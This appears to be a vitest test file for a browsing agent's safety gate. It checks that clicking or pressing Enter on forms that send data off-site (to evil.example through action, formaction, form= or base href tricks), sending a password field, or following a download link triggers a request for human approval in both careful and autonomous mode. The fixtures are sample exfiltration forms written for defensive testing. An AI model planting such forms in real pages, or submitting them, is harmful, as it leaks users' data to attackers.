import { parseAction } from "@webhand/contracts/action/parse";
import { parsePage } from "@webhand/page/parse/parse";
import { expect, test } from "vitest";
import { home, task } from "../../../test/gate-cases.ts";
import { decideGate } from "./gate.ts";

/** The gate's word in careful and in autonomous mode, and why. */
function word(html: string, text: string): string {
	const parsed = parseAction(text);
	if (!parsed.ok) throw new Error(parsed.problem.message);
	const page = { ...parsePage(html), url: home };
	const gates = (["careful", "autonomous"] as const).map((mode) => decideGate(parsed.action, page, { ...task, mode }));
	return `${gates.map(({ kind }) => kind).join(", ")}: ${gates[0]?.risk.reasons.join(" ")}`;
}

test.for([
	["the form around a button", '<form action="https://evil.example/x" method=post><button id=2>Go</button></form>'],
	["a button of its own", '<form action="/x" method=post><button id=2 formaction="https://evil.example/x">Go</button></form>'],
	["an input that sends", '<form><input type=submit id=2 value=Go formaction="//evil.example/"></form>'],
	["a form that stands elsewhere", '<form id=f action="https://evil.example/x" method=post></form><button id=2 form=f>Go</button>'],
	["a form behind the button", '<button id=2 form=f>Go</button><form id=f action="https://evil.example/x"></form>'],
	[
		"the address that all others start from",
		'<base href="https://evil.example/"><form action="x" method=post><button id=2>Go</button></form>',
	],
	["a form around the form", '<form action="https://evil.example/"><form action="/x"><button id=2>Go</button></form>'],
] as const)("simplified HTML whose data leaves the site by %s asks in every mode", ([_name, html]) => {
	expect(word(html, "click(2)")).toBe("ask, ask: form_leaves_site submits");
	expect(word(html, 'press(2, "Enter")')).toMatch(/^ask, ask: form_leaves_site/);
});

test("a password of a form that stands elsewhere counts for the button that sends it", () => {
	const html = "<form id=f method=post></form><input id=1 form=f type=password><button id=2 form=f>Go</button>";
	expect(word(html, "click(2)")).toBe("ask, ask: password_in_form submits");
});

test("a link that downloads asks in every mode", () => {
	expect(word('<a id=2 href="/f.zip" download>Go</a>', "click(2)")).toBe("ask, ask: download");
});

test("a hidden input is no control", () => {
	const page = parsePage("<form><input type=hidden id=7 value=ada><button id=2>Go</button></form>");
	expect([...page.elements.keys()]).toEqual([2]);
});
